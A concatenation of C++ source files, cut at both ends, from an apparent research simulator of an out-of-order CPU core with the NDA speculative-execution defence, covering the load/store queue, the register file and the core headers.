    while (!stores_.empty() && stores_.back()->seq > squash_seq)
        stores_.pop_back();
}

void
Lsq::clear()
{
    loads_.clear();
    stores_.clear();
}

void
Lsq::registerStats(StatsRegistry &reg, const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("searches", &searches_,
              "store-queue searches by executing loads");
    g.counter("forwards", &forwards_,
              "loads satisfied by store-to-load forwarding");
    g.counter("stall_retries", &stallRetries_,
              "searches rejected (partial overlap / data not ready)");
    g.formula("forward_rate",
              [this] {
                  return searches_ ? static_cast<double>(forwards_) /
                                         static_cast<double>(searches_)
                                   : 0.0;
              },
              "forwards / searches");
}

} // namespace nda
