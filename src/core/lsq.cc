#include "core/lsq.hh"

#include <algorithm>

#include "common/log.hh"
#include "obs/stats_registry.hh"

namespace nda {

Lsq::Lsq(unsigned lq_entries, unsigned sq_entries, unsigned nthreads)
    : lqEntries_(lq_entries), sqEntries_(sq_entries),
      loads_(nthreads), stores_(nthreads)
{
}

void
Lsq::insertLoad(const DynInstPtr &inst)
{
    NDA_ASSERT(!lqFull(), "load queue overflow");
    loads_[inst->tid].push_back(inst);
    ++nLoads_;
}

void
Lsq::insertStore(const DynInstPtr &inst)
{
    NDA_ASSERT(!sqFull(), "store queue overflow");
    stores_[inst->tid].push_back(inst);
    ++nStores_;
}

StoreSearchResult
Lsq::searchStores(InstSeqNum load_seq, Addr addr, unsigned size,
                  const PhysRegFile &regs, unsigned tid) const
{
    StoreSearchResult result;
    ++searches_;
    const auto &sq = stores_[tid];
    // Youngest-to-oldest among stores older than the load.
    for (auto it = sq.rbegin(); it != sq.rend(); ++it) {
        const DynInst &store = **it;
        if (store.squashed || store.seq >= load_seq)
            continue;
        if (!store.effAddrValid) {
            // Speculative store bypass: proceed past the unresolved
            // store, but remember it (violation detection + NDA BR).
            result.bypassedStores.push_back(store.seq);
            continue;
        }
        if (!overlaps(addr, size, store.effAddr, store.uop.size))
            continue;
        if (contains(addr, size, store.effAddr, store.uop.size)) {
            // Forward from the youngest covering store — but only if
            // its data register has been broadcast. An unsafe (NDA)
            // producer's value must not propagate via the store queue
            // either.
            if (store.src2 != kInvalidPhysReg &&
                !regs.ready(store.src2)) {
                result.mustStall = true;
                ++stallRetries_;
                return result;
            }
            const unsigned shift =
                static_cast<unsigned>(addr - store.effAddr) * 8;
            RegVal v = regs.value(store.src2) >> shift;
            if (size < 8)
                v &= (RegVal{1} << (8 * size)) - 1;
            result.forward = true;
            result.value = v;
            result.forwardStore = &store;
            ++forwards_;
            return result;
        }
        // Partial overlap: cannot forward; wait for the store to drain.
        result.mustStall = true;
        ++stallRetries_;
        return result;
    }
    return result;
}

DynInstPtr
Lsq::checkViolations(const DynInst &store) const
{
    NDA_ASSERT(store.effAddrValid, "violation check on unresolved store");
    for (const DynInstPtr &load : loads_[store.tid]) {
        // A load captures its data when it issues (effAddrValid), so
        // even a not-yet-completed load can hold stale data and must
        // be snooped.
        if (load->squashed || load->seq <= store.seq)
            continue;
        if (!load->effAddrValid)
            continue;
        if (!overlaps(load->effAddr, load->uop.size, store.effAddr,
                      store.uop.size)) {
            continue;
        }
        // Did this load execute past this (then-unresolved) store?
        const auto &bypassed = load->bypassedStores;
        if (std::find(bypassed.begin(), bypassed.end(), store.seq) !=
            bypassed.end()) {
            return load; // oldest violating load (queue is age-ordered)
        }
    }
    return nullptr;
}

std::vector<DynInstPtr>
Lsq::retireBypass(InstSeqNum store_seq, unsigned tid)
{
    std::vector<DynInstPtr> cleared;
    for (const DynInstPtr &load : loads_[tid]) {
        if (load->squashed)
            continue;
        auto &bypassed = load->bypassedStores;
        auto it = std::find(bypassed.begin(), bypassed.end(), store_seq);
        if (it == bypassed.end())
            continue;
        bypassed.erase(it);
        if (bypassed.empty())
            cleared.push_back(load);
    }
    return cleared;
}

void
Lsq::commitLoad(const DynInst &inst)
{
    auto &lq = loads_[inst.tid];
    NDA_ASSERT(!lq.empty() && lq.front()->seq == inst.seq,
               "commit of non-head load");
    lq.pop_front();
    --nLoads_;
}

void
Lsq::commitStore(const DynInst &inst)
{
    auto &sq = stores_[inst.tid];
    NDA_ASSERT(!sq.empty() && sq.front()->seq == inst.seq,
               "commit of non-head store");
    sq.pop_front();
    --nStores_;
}

void
Lsq::squashYoungerThan(InstSeqNum squash_seq, unsigned tid)
{
    auto &lq = loads_[tid];
    auto &sq = stores_[tid];
    while (!lq.empty() && lq.back()->seq > squash_seq) {
        lq.pop_back();
        --nLoads_;
    }
    while (!sq.empty() && sq.back()->seq > squash_seq) {
        sq.pop_back();
        --nStores_;
    }
}

void
Lsq::clear()
{
    for (auto &q : loads_)
        q.clear();
    for (auto &q : stores_)
        q.clear();
    nLoads_ = 0;
    nStores_ = 0;
}

void
Lsq::registerStats(StatsRegistry &reg, const std::string &prefix) const
{
    const StatsRegistry::Group g = reg.group(prefix);
    g.counter("searches", &searches_,
              "store-queue searches by executing loads");
    g.counter("forwards", &forwards_,
              "loads satisfied by store-to-load forwarding");
    g.counter("stall_retries", &stallRetries_,
              "searches rejected (partial overlap / data not ready)");
    g.formula("forward_rate",
              [this] {
                  return searches_ ? static_cast<double>(forwards_) /
                                         static_cast<double>(searches_)
                                   : 0.0;
              },
              "forwards / searches");
}

} // namespace nda
