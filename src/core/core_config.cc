#include "core/core_config.hh"

#include <cstdio>

namespace nda {

std::string
configTable(const SimConfig &cfg)
{
    char buf[1024];
    std::snprintf(
        buf, sizeof(buf),
        "Architecture      : custom RISC-like at 2.0 GHz\n"
        "Core (OoO)        : %u-issue, %u LQ, %u SQ, %u ROB, "
        "%u BTB, %u RAS\n"
        "Core (in-order)   : non-pipelined timing model\n"
        "L1-I / L1-D cache : %zu kB, %u B line, %u-way SA, "
        "%u-cycle RT, %u port(s)\n"
        "L2 cache          : %zu MB, %u B line, %u-way SA, %u-cycle RT\n"
        "DRAM              : %u-cycle (50 ns) response latency\n"
        "Security          : %s\n",
        cfg.core.issueWidth, cfg.core.lqEntries, cfg.core.sqEntries,
        cfg.core.robEntries, cfg.core.predictor.btb.entries,
        cfg.core.predictor.rasEntries,
        cfg.memory.l1d.sizeBytes / 1024, cfg.memory.l1d.lineBytes,
        cfg.memory.l1d.ways, cfg.memory.l1d.hitLatency,
        cfg.core.memPorts,
        cfg.memory.l2.sizeBytes / (1024 * 1024), cfg.memory.l2.lineBytes,
        cfg.memory.l2.ways, cfg.memory.l2.hitLatency,
        cfg.memory.dramLatency, describe(cfg.security).c_str());
    return buf;
}

} // namespace nda
