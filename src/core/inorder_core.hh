/**
 * @file
 * In-order, non-pipelined timing core in the spirit of gem5's
 * TimingSimpleCPU (paper Table 3's in-order baseline). No
 * speculation of any kind, hence trivially immune to speculative
 * execution attacks — the paper's secure-performance lower bound.
 */

#ifndef NDASIM_CORE_INORDER_CORE_HH
#define NDASIM_CORE_INORDER_CORE_HH

#include "core/core_base.hh"
#include "core/core_config.hh"
#include "isa/program.hh"

namespace nda {

/** Non-pipelined in-order timing model. */
class InOrderCore : public CoreBase
{
  public:
    /** The core keeps its own copy of `prog`. */
    InOrderCore(Program prog, const SimConfig &cfg);

    /**
     * Advance one cycle; when the current instruction's latency has
     * elapsed, the next instruction executes.
     */
    void tick() override;
    void run(std::uint64_t max_insts, Cycle max_cycles) override;

    bool halted() const override { return halted_; }
    Cycle cycle() const override { return cycle_; }
    std::uint64_t committedInsts() const override { return committed_; }

    RegVal archReg(RegId r) const override { return regs_[r]; }
    RegVal msr(unsigned idx) const override { return msrs_[idx]; }

    MemoryMap &mem() override { return mem_; }
    const MemoryMap &mem() const override { return mem_; }
    MemHierarchy &hierarchy() override { return hier_; }

    PerfCounters &counters() override { return counters_; }
    const PerfCounters &counters() const override { return counters_; }
    void resetCounters() override { counters_.reset(); }

    /** DIFT oracle: architectural taint only — nothing speculates
     *  here, so no leak event can ever be raised. */
    void attachDift(TaintEngine *engine) override { dift_ = engine; }

    /** CPI stack: width 1, so each cycle is one slot — a commit, or a
     *  stall charged to the instruction paying its latency. */
    void attachCpiStack(CpiStackProfiler *p) override
    {
        cpiStack_ = p;
    }

    TaintWord archRegTaint(RegId r) const override;

    void saveCheckpoint(SimSnapshot &out) const override;
    void restoreCheckpoint(const SimSnapshot &snap) override;

  private:
    /** Execute one instruction; returns its total cycle cost. */
    Cycle step();

    /** Data-side timing for one access: legacy eager path, or the
     *  MSHR request path when enabled (identical latencies — the
     *  blocking core never overlaps misses). */
    AccessResult dataTiming(Addr addr, MshrTargetKind kind);

    const Program prog_;
    SimConfig cfg_;
    MemoryMap mem_;
    MemHierarchy hier_;

    RegVal regs_[kNumArchRegs] = {};
    RegVal msrs_[kNumMsrRegs] = {};
    Addr pc_ = 0;
    bool halted_ = false;
    Cycle cycle_ = 0;
    Cycle busyUntil_ = 0;
    CycleClass stallClass_ = CycleClass::kCommit;
    std::uint64_t committed_ = 0;
    Addr lastFetchLine_ = ~Addr{0};
    TaintEngine *dift_ = nullptr;
    CpiStackProfiler *cpiStack_ = nullptr; ///< usually absent
    Addr stallPc_ = 0; ///< pc whose latency busyUntil_ is paying

    PerfCounters counters_;
};

} // namespace nda

#endif // NDASIM_CORE_INORDER_CORE_HH
