/**
 * @file
 * Physical register file with per-register ready bits and a free list.
 *
 * The ready bit is the heart of NDA: an unsafe completing instruction
 * writes its value here but does NOT set ready, so dependents in the
 * issue queue cannot wake (paper §5.1, Fig 2 step 3 -> 4).
 */

#ifndef NDASIM_CORE_PHYS_REG_FILE_HH
#define NDASIM_CORE_PHYS_REG_FILE_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** Physical integer register file + free list. */
class PhysRegFile
{
  public:
    explicit PhysRegFile(unsigned num_regs);

    /** Allocate a free register; panics if exhausted (caller checks). */
    PhysRegId alloc();

    /** Return a register to the free list. */
    void free(PhysRegId r);

    bool hasFree() const { return !freeList_.empty(); }
    std::size_t numFree() const { return freeList_.size(); }

    /** The raw free list (fuzz/invariant_checker accounting). */
    const std::vector<PhysRegId> &freeList() const { return freeList_; }

    RegVal value(PhysRegId r) const { return values_[r]; }
    void setValue(PhysRegId r, RegVal v) { values_[r] = v; }

    bool ready(PhysRegId r) const { return ready_[r]; }
    void setReady(PhysRegId r) { ready_[r] = true; }
    void clearReady(PhysRegId r) { ready_[r] = false; }

    /** Reset all registers to not-ready and rebuild the free list,
     *  keeping the first `reserved` registers allocated and ready
     *  (the initial architectural mappings). */
    void reset(unsigned reserved);

    unsigned size() const { return static_cast<unsigned>(values_.size()); }

    std::uint64_t allocs() const { return allocs_; }
    void resetStats() { allocs_ = 0; frees_ = 0; }

    /** Bind allocs/frees + free_now under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    std::vector<RegVal> values_;
    std::vector<bool> ready_;
    std::vector<PhysRegId> freeList_;
    std::uint64_t allocs_ = 0;  ///< rename allocations
    std::uint64_t frees_ = 0;   ///< returns (commit + squash)
};

} // namespace nda

#endif // NDASIM_CORE_PHYS_REG_FILE_HH
