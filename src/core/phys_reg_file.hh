/**
 * @file
 * Physical register file with per-register ready bits and a free list.
 *
 * The ready bit is the heart of NDA: an unsafe completing instruction
 * writes its value here but does NOT set ready, so dependents in the
 * issue queue cannot wake (paper §5.1, Fig 2 step 3 -> 4).
 *
 * Under SMT the file is statically partitioned: each hardware thread
 * owns its identity-mapped architectural range plus a contiguous chunk
 * of the rename pool, and a freed register always returns to its
 * owner's list. A single-thread core (the default) reduces to one
 * partition holding the whole file — bit-identical to the pre-SMT
 * allocator.
 */

#ifndef NDASIM_CORE_PHYS_REG_FILE_HH
#define NDASIM_CORE_PHYS_REG_FILE_HH

#include <cstdint>
#include <string>
#include <vector>

#include "common/types.hh"

namespace nda {

class StatsRegistry;

/** Physical integer register file + per-thread free lists. */
class PhysRegFile
{
  public:
    explicit PhysRegFile(unsigned num_regs);

    /** Allocate from thread `tid`'s partition; panics if exhausted
     *  (caller checks hasFree). */
    PhysRegId alloc(unsigned tid = 0);

    /** Return a register to its owning partition's free list. */
    void free(PhysRegId r);

    bool
    hasFree(unsigned tid = 0) const
    {
        return !freeLists_[tid].empty();
    }

    std::size_t
    numFree() const
    {
        std::size_t n = 0;
        for (const auto &fl : freeLists_)
            n += fl.size();
        return n;
    }

    /** Thread `tid`'s raw free list (fuzz/invariant_checker). */
    const std::vector<PhysRegId> &
    freeList(unsigned tid = 0) const
    {
        return freeLists_[tid];
    }

    /** Number of free-list partitions (== SMT thread count). */
    unsigned
    numPartitions() const
    {
        return static_cast<unsigned>(freeLists_.size());
    }

    /** The hardware thread owning phys reg `r`'s storage. */
    unsigned owner(PhysRegId r) const { return owner_[r]; }

    RegVal value(PhysRegId r) const { return values_[r]; }
    void setValue(PhysRegId r, RegVal v) { values_[r] = v; }

    bool ready(PhysRegId r) const { return ready_[r]; }
    void setReady(PhysRegId r) { ready_[r] = true; }
    void clearReady(PhysRegId r) { ready_[r] = false; }

    /**
     * Reset all registers to not-ready and rebuild the free lists,
     * keeping the first `reserved_per_thread * nthreads` registers
     * allocated and ready (the initial per-thread architectural
     * mappings: thread t's arch reg a maps to phys reg
     * t * reserved_per_thread + a). The rename pool is split into
     * `nthreads` contiguous chunks, one per thread.
     */
    void reset(unsigned reserved_per_thread, unsigned nthreads = 1);

    unsigned size() const { return static_cast<unsigned>(values_.size()); }

    std::uint64_t allocs() const { return allocs_; }
    void resetStats() { allocs_ = 0; frees_ = 0; }

    /** Bind allocs/frees + free_now under `prefix`. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;

  private:
    std::vector<RegVal> values_;
    std::vector<bool> ready_;
    std::vector<std::vector<PhysRegId>> freeLists_; ///< per thread
    std::vector<unsigned> owner_;                   ///< reg -> thread
    std::uint64_t allocs_ = 0;  ///< rename allocations
    std::uint64_t frees_ = 0;   ///< returns (commit + squash)
};

} // namespace nda

#endif // NDASIM_CORE_PHYS_REG_FILE_HH
