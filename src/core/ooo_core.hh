/**
 * @file
 * Cycle-level out-of-order core with genuine wrong-path execution,
 * physical-register renaming, an issue queue woken by tag broadcast,
 * a load/store queue with speculative store bypass, and the NDA
 * safety unit (paper §5) plus the InvisiSpec comparison model.
 *
 * The core hosts 1..N SMT hardware threads (CoreParams::smtThreads).
 * Each thread owns its architectural view — rename map, commit map,
 * MSRs, ROB stream, fetch state, and the NDA ordering deques — in a
 * ThreadContext; the issue queue, LSQ capacity, functional units,
 * physical register storage, cache hierarchy (incl. MSHR files), and
 * branch predictor are shared. A single-thread core takes exactly the
 * pre-SMT paths: every loop over threads reduces to thread 0 and the
 * cycle-level behaviour is bit-identical.
 *
 * Stage order within a cycle (commit-first so broadcasts in cycle C
 * allow dependent issue in cycle C):
 *   commit -> complete/broadcast -> issue -> dispatch/rename -> fetch
 */

#ifndef NDASIM_CORE_OOO_CORE_HH
#define NDASIM_CORE_OOO_CORE_HH

#include <deque>
#include <functional>
#include <map>
#include <vector>

#include "branch/predictor_unit.hh"
#include "core/core_base.hh"
#include "core/core_config.hh"
#include "core/dyn_inst_pool.hh"
#include "core/issue_queue.hh"
#include "core/lsq.hh"
#include "core/phys_reg_file.hh"
#include "core/rename_map.hh"
#include "isa/program.hh"
#include "obs/hotspot_profiler.hh"

namespace nda {

class InvariantChecker;
/** Deliberate state corruptions (defined in fuzz/invariant_checker.hh). */
enum class FuzzCorruption : std::uint8_t;

/** The out-of-order core model. */
class OooCore : public CoreBase
{
  public:
    /** The core keeps its own copy of `prog`. */
    OooCore(Program prog, const SimConfig &cfg);

    void tick() override;
    void run(std::uint64_t max_insts, Cycle max_cycles) override;

    bool halted() const override { return halted_; }
    Cycle cycle() const override { return cycle_; }
    std::uint64_t committedInsts() const override { return committed_; }

    RegVal archReg(RegId r) const override;
    RegVal msr(unsigned idx) const override
    {
        return threads_[0].msrs[idx];
    }

    MemoryMap &mem() override { return mem_; }
    const MemoryMap &mem() const override { return mem_; }
    MemHierarchy &hierarchy() override { return hier_; }

    PerfCounters &counters() override { return counters_; }
    const PerfCounters &counters() const override { return counters_; }
    void resetCounters() override;

    /** Perf + hierarchy (base) plus predictor, IQ, LSQ, regfile; with
     *  SMT, per-thread counters under `prefix`.t<i>.perf. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) override;

    /**
     * Attach the DIFT leakage oracle (dift/taint_engine.hh). Every
     * hook site is guarded by a null check, so detached simulation
     * pays nothing.
     */
    void attachDift(TaintEngine *engine) override;

    /**
     * Attach the per-cycle invariant checker (fuzz/). Like the DIFT
     * engine, the tick hook is guarded by a null check, so detached
     * simulation pays nothing.
     */
    void attachChecker(InvariantChecker *checker) override
    {
        checker_ = checker;
    }

    /**
     * Attach the causal CPI-stack profiler. Per cycle the commit
     * stage owns `commitWidth` slots; each one is attributed — to the
     * retiring instruction, or to the root cause found by walking the
     * dependence chain from the blocked ROB head (obs/cpi_stack.hh).
     * All hooks are null-guarded; detached simulation pays nothing.
     */
    void attachCpiStack(CpiStackProfiler *p) override
    {
        cpiStack_ = p;
    }

    /**
     * Attach a per-thread CPI-stack profiler: thread `tid`'s view of
     * the same `commitWidth` slots. Slots retired by *other* threads
     * are charged to kSmtContention, so each thread's stack obeys the
     * same width x cycles identity as the pooled one.
     */
    void
    attachThreadCpiStack(unsigned tid, CpiStackProfiler *p)
    {
        if (threadCpi_.size() < threads_.size())
            threadCpi_.resize(threads_.size(), nullptr);
        threadCpi_[tid] = p;
    }

    /**
     * Test/fuzz-only: deliberately violate one micro-architectural
     * invariant so the checker's detection logic can itself be tested
     * (a checker that cannot fail is untested). Returns false when the
     * requested corruption is not applicable to the current state
     * (e.g. no unsafe in-flight producer to wake early); callers
     * retry on a later cycle.
     */
    bool corruptForTest(FuzzCorruption kind);

    // --- introspection for tests & the ROB-snapshot example -------------
    const std::deque<DynInstPtr> &
    rob(unsigned tid = 0) const
    {
        return threads_[tid].rob;
    }
    PredictorUnit &predictor() { return bp_; }
    const SimConfig &config() const { return cfg_; }
    std::size_t
    fetchQueueSize(unsigned tid = 0) const
    {
        return threads_[tid].fetchQueue.size();
    }

    unsigned numThreads() const { return numThreads_; }
    bool threadHalted(unsigned tid) const { return threads_[tid].halted; }

    /** Thread `tid`'s committed architectural register `r`. */
    RegVal
    archRegOf(unsigned tid, RegId r) const
    {
        return regs_.value(threads_[tid].commitMap[r]);
    }
    RegVal msrOf(unsigned tid, unsigned idx) const
    {
        return threads_[tid].msrs[idx];
    }

    /** Thread `tid`'s counters; null unless the core runs SMT. */
    const PerfCounters *
    threadCounters(unsigned tid) const
    {
        return threadCounters_.empty() ? nullptr
                                       : &threadCounters_[tid];
    }

    /** Taint of the committed architectural register `r` (0 if no
     *  engine is attached). Test/debug introspection. */
    TaintWord archRegTaint(RegId r) const override;

    /**
     * Checkpoint the *committed* machine: architectural values come
     * from the commit rename map, the PC is the oldest un-committed
     * instruction's (in-flight work is deliberately excluded — it
     * re-executes after a restore). Cache tags and predictor tables
     * are captured as-is, wrong-path pollution included. Threads
     * beyond 0 land in SimSnapshot::extraThreads (empty at smt=1).
     */
    void saveCheckpoint(SimSnapshot &out) const override;

    /** Restore into a freshly constructed core only (asserted).
     *  Thread 0 always restores; extraThreads apply to matching
     *  hardware contexts and surplus snapshot threads are ignored
     *  (an smt=1 snapshot seeds thread 0 of an smt=2 core). */
    void restoreCheckpoint(const SimSnapshot &snap) override;

    /**
     * Install a callback invoked once per dynamic instruction when it
     * leaves the machine (at commit, or when squashed), with the
     * current cycle. Used by debug::PipeTrace.
     */
    void
    setRetireHook(std::function<void(const DynInst &, Cycle)> hook)
    {
        retireHook_ = std::move(hook);
    }

  private:
    // --- CPI-stack attribution (all dead code unless cpiStack_ set) -------
    /** Why the commit loop stopped retiring this cycle. */
    enum class CommitBreak : std::uint8_t {
        kNone = 0,      ///< loop ended for a non-head reason
        kNotExecuted,   ///< head has not completed execution
        kFaultWait,     ///< head waiting out trap-delivery latency
        kValidate,      ///< IS-Future validation round trip
        kStoreData,     ///< store data register not broadcast yet
        kStoreMshrFull, ///< store drain rejected by a full MSHR file
    };

    /** Why dispatch stopped renaming this cycle. */
    enum class DispatchBlock : std::uint8_t {
        kNone = 0,      ///< used the full width (or nothing arrived)
        kFetchEmpty,    ///< fetch queue ran dry
        kFrontendDelay, ///< head still in the fetch-to-dispatch pipe
        kRobFull,       ///< ROB at capacity
        kIqFull,        ///< issue queue at capacity
        kLqFull,        ///< load queue at capacity
        kSqFull,        ///< store queue at capacity
        kRegsFull,      ///< physical register file exhausted
    };

    /**
     * Everything one SMT hardware thread owns privately: its
     * architectural view (commit map, MSRs), speculative rename map,
     * in-order ROB stream, front-end state, and the per-thread NDA /
     * ordering bookkeeping. A squash is scoped to one ThreadContext.
     */
    struct ThreadContext {
        std::deque<DynInstPtr> rob;
        /** Committed arch reg -> phys reg holding the value. */
        PhysRegId commitMap[kNumArchRegs] = {};
        RenameMap rmap;
        RegVal msrs[kNumMsrRegs] = {};

        // front end
        std::deque<DynInstPtr> fetchQueue;
        Addr fetchPc = 0;
        bool fetchBlocked = false;
        Cycle icacheStallUntil = 0;
        Addr lastFetchLine = ~Addr{0};

        // NDA / ordering bookkeeping (same-thread properties)
        std::deque<InstSeqNum> unresolvedBranches;
        std::deque<InstSeqNum> fencesInFlight;
        std::deque<InstSeqNum> wrmsrInFlight;

        bool specDisabled = false; ///< inside a specoff window (SS8)
        bool halted = false;

        // CPI-stack attribution state
        CommitBreak commitBreak = CommitBreak::kNone;
        DispatchBlock dispatchBlock = DispatchBlock::kNone;
        bool refetchPending = false; ///< squashed; refill not dispatched
        SquashCause lastSquashCause = SquashCause::kNone;
        Addr lastSquashPc = 0;   ///< pc of the squashing instruction
    };

    // --- pipeline stages -------------------------------------------------
    void commitStage();
    void completeStage();
    void issueStage();
    void dispatchStage();
    void fetchStage();
    /** Fetch up to fetchWidth micro-ops for one hardware thread. */
    void fetchThread(unsigned tid);
    /** SMT fetch arbitration (round-robin or ICOUNT); the thread to
     *  fetch for this cycle, or numThreads_ if none is fetchable. */
    unsigned pickFetchThread() const;

    // --- helpers ----------------------------------------------------------
    void executeInst(const DynInstPtr &inst, unsigned &mem_issued,
                     unsigned &muldiv_issued, bool &rejected);
    bool executeLoad(const DynInstPtr &inst);
    void resolveBranch(const DynInstPtr &inst);
    void scheduleCompletion(const DynInstPtr &inst, unsigned latency);

    /** Broadcast the tag: mark dest ready so dependents can wake. */
    void broadcast(const DynInstPtr &inst);
    /** Queue a newly-safe completed instruction for broadcast. */
    void maybeQueueBroadcast(const DynInstPtr &inst);

    /** Squash thread `tid`'s instructions with seq > `keep_seq`;
     *  redirect that thread's fetch. Other threads are untouched.
     *  `cause` attributes the flush (perf counter + per-inst tag) and
     *  `cause_pc` is the instruction that forced it (CPI stack). */
    void squashAfter(unsigned tid, InstSeqNum keep_seq,
                     Addr redirect_pc, SquashCause cause, Addr cause_pc);
    void raiseFault(const DynInstPtr &inst);

    /** Record unsafe-residency once the last unsafe bit clears. */
    void noteUnsafeCleared(DynInst &inst);

    /** Remove a resolved/squashed branch from its thread's list. */
    void branchResolved(unsigned tid, InstSeqNum seq);
    /**
     * Paper §5.1: when thread `tid`'s eldest unresolved branch
     * changes, clear `unsafe` on its older ROB entries and queue
     * their deferred broadcasts; also exposes InvisiSpec-Spectre
     * shadow loads.
     */
    void ndaClearWalk(unsigned tid);

    bool hasOlderUnresolvedBranch(unsigned tid, InstSeqNum seq) const;
    bool hasOlderWrmsr(unsigned tid, InstSeqNum seq) const;

    /** NDA policy for thread `tid` (per-thread under SMT). */
    const SecurityConfig &secFor(unsigned tid) const
    {
        return cfg_.secFor(tid);
    }

    /** One slot attribution: root cause + the causal instruction. */
    struct SlotAttr {
        StallCause cause;
        Addr pc;
    };

    /** Attribute this cycle's lost commit slots (commit slots are
     *  charged inline as instructions retire). `ptid` is the thread
     *  whose stall explains the pooled stack's lost slots. */
    void profileCycle(unsigned ncommit, unsigned ptid);
    /** Root cause of thread `tid`'s stalled ROB head. */
    SlotAttr headCause(unsigned tid);
    /** Cause of thread `tid`'s slots beyond ROB occupancy (squash
     *  refetch, frontend starvation, or a dispatch capacity limit
     *  from last cycle). */
    SlotAttr emptyCause(unsigned tid) const;
    /** Attribute thread `tid`'s lost slots into profiler `p`. */
    void attributeLostSlots(CpiStackProfiler *p, unsigned tid,
                            std::uint64_t lost, bool edge);
    /** Walk the dependence chain from `inst` to its root blocker. */
    SlotAttr chaseInst(const DynInst *inst, int depth);
    /** Attribute a wait on not-ready phys reg `r` (store data, or a
     *  chased instruction's blocked source). */
    SlotAttr chaseBlockedReg(PhysRegId r, Addr consumer_pc, int depth);
    /** Rebuild producerOf_ from every ROB and the deferred-broadcast
     *  queue (committed NDA producers in the retire-wake window). */
    void buildProducerMap();

    RegVal srcValue(PhysRegId r) const
    {
        return r == kInvalidPhysReg ? 0 : regs_.value(r);
    }

    void classifyCycle(unsigned committed_now, unsigned ptid);
    /** Commit/frontend/memory/backend class of one thread's cycle. */
    CycleClass classifyThread(unsigned committed_now,
                              const ThreadContext &tc) const;
    /** The thread whose stall explains the pooled cycle class / CPI
     *  stack: the first in rotation order with a non-empty ROB. */
    unsigned priorityTid() const;
    /** Total ROB occupancy across threads (shared capacity). */
    std::size_t robOccupancy() const;

    /** Thread `tid`'s counters, or null on a single-thread core. */
    PerfCounters *
    tcnt(unsigned tid)
    {
        return threadCounters_.empty() ? nullptr
                                       : &threadCounters_[tid];
    }
    /** Thread `tid`'s CPI profiler, or null. */
    CpiStackProfiler *
    tcpi(unsigned tid) const
    {
        return tid < threadCpi_.size() ? threadCpi_[tid] : nullptr;
    }

    // --- configuration / program -----------------------------------------
    const Program prog_;
    SimConfig cfg_;
    unsigned numThreads_;

    /** In-flight instruction allocator. Declared before every
     *  container that holds DynInstPtr so it is destroyed last. */
    DynInstPool pool_;

    // --- shared architectural + micro-architectural state -----------------
    MemoryMap mem_;
    MemHierarchy hier_;
    PredictorUnit bp_;
    PhysRegFile regs_;
    IssueQueue iq_;
    Lsq lsq_;

    /** The hardware thread contexts (size == smtThreads). */
    std::vector<ThreadContext> threads_;

    // --- events -------------------------------------------------------------
    std::multimap<Cycle, DynInstPtr> completionEvents_;

    /** Completed-but-unwoken producers awaiting a broadcast port
     *  (shared: ports are a core resource; entries are age-ordered
     *  by global seq). */
    std::deque<DynInstPtr> pendingBcast_;

    // --- misc state -----------------------------------------------------------
    InstSeqNum nextSeq_ = 0;
    Cycle cycle_ = 0;
    std::uint64_t commitTarget_ = ~std::uint64_t{0};
    std::uint64_t committed_ = 0;
    bool halted_ = false; ///< every hardware thread halted
    int outstandingMisses_ = 0;
    unsigned completionsThisCycle_ = 0;
    Cycle lastCommitCycle_ = 0;
    std::function<void(const DynInst &, Cycle)> retireHook_;
    TaintEngine *dift_ = nullptr; ///< leakage oracle, usually absent
    InvariantChecker *checker_ = nullptr; ///< fuzz invariant checker

    // --- CPI-stack attribution state ---------------------------------------
    CpiStackProfiler *cpiStack_ = nullptr; ///< pooled; usually absent
    std::vector<CpiStackProfiler *> threadCpi_; ///< per-thread views
    /** Per-thread commit counts of the current cycle (SMT CPI). */
    std::vector<unsigned> commitsThisCycle_;
    /** Phys reg -> in-flight producer that has not broadcast. Rebuilt
     *  lazily per profiled stall cycle; never read otherwise. */
    std::vector<const DynInst *> producerOf_;

    PerfCounters counters_;
    /** Per-thread counters; empty on a single-thread core (the pooled
     *  counters_ then are the thread counters). */
    std::vector<PerfCounters> threadCounters_;

    /** The checker reads every private structure it validates. */
    friend class InvariantChecker;
};

} // namespace nda

#endif // NDASIM_CORE_OOO_CORE_HH
