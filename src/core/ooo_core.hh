/**
 * @file
 * Cycle-level out-of-order core with genuine wrong-path execution,
 * physical-register renaming, an issue queue woken by tag broadcast,
 * a load/store queue with speculative store bypass, and the NDA
 * safety unit (paper §5) plus the InvisiSpec comparison model.
 *
 * Stage order within a cycle (commit-first so broadcasts in cycle C
 * allow dependent issue in cycle C):
 *   commit -> complete/broadcast -> issue -> dispatch/rename -> fetch
 */

#ifndef NDASIM_CORE_OOO_CORE_HH
#define NDASIM_CORE_OOO_CORE_HH

#include <deque>
#include <functional>
#include <map>
#include <vector>

#include "branch/predictor_unit.hh"
#include "core/core_base.hh"
#include "core/core_config.hh"
#include "core/dyn_inst_pool.hh"
#include "core/issue_queue.hh"
#include "core/lsq.hh"
#include "core/phys_reg_file.hh"
#include "core/rename_map.hh"
#include "isa/program.hh"

namespace nda {

class InvariantChecker;
/** Deliberate state corruptions (defined in fuzz/invariant_checker.hh). */
enum class FuzzCorruption : std::uint8_t;

/** The out-of-order core model. */
class OooCore : public CoreBase
{
  public:
    /** The core keeps its own copy of `prog`. */
    OooCore(Program prog, const SimConfig &cfg);

    void tick() override;
    void run(std::uint64_t max_insts, Cycle max_cycles) override;

    bool halted() const override { return halted_; }
    Cycle cycle() const override { return cycle_; }
    std::uint64_t committedInsts() const override { return committed_; }

    RegVal archReg(RegId r) const override;
    RegVal msr(unsigned idx) const override { return msrs_[idx]; }

    MemoryMap &mem() override { return mem_; }
    const MemoryMap &mem() const override { return mem_; }
    MemHierarchy &hierarchy() override { return hier_; }

    PerfCounters &counters() override { return counters_; }
    const PerfCounters &counters() const override { return counters_; }
    void resetCounters() override { counters_.reset(); }

    /** Perf + hierarchy (base) plus predictor, IQ, LSQ, regfile. */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) override;

    /**
     * Attach the DIFT leakage oracle (dift/taint_engine.hh). Every
     * hook site is guarded by a null check, so detached simulation
     * pays nothing.
     */
    void attachDift(TaintEngine *engine) override;

    /**
     * Attach the per-cycle invariant checker (fuzz/). Like the DIFT
     * engine, the tick hook is guarded by a null check, so detached
